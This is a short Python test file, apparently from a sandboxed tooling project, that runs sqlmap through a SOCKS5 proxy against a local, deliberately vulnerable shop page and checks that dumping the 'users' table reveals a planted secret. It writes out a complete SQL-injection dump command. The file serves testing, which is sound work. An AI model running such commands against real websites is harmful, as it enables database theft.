"""sqlmap reads a table through the Agent."""

from collections.abc import Sequence

import pytest

from tests.tools.pages import web_server
from tests.tools.site import WEB, Site
from tests.tools.vulnerable import SECRET, Shop


def sqlmap(url: str) -> Sequence[object]:
    """The command that dumps the table with the secret, but for the proxy."""
    return (
        *("sqlmap", "--batch", "--flush-session", "--disable-coloring", "--url", url, "--dbms", "sqlite"),
        *("--technique", "U", "-T", "users", "--dump", "--timeout", 60),
    )


@pytest.mark.uses("sqlmap")
def test_it_dumps_the_table_of_a_vulnerable_page(sealed: Site) -> None:
    with web_server(sealed.inside, Shop) as port:
        command = (*sqlmap(f"http://{WEB}:{port}/item?id=1"), "--proxy", f"socks5://{sealed.proxy}")
        assert SECRET in sealed.run(*command, seconds=110)
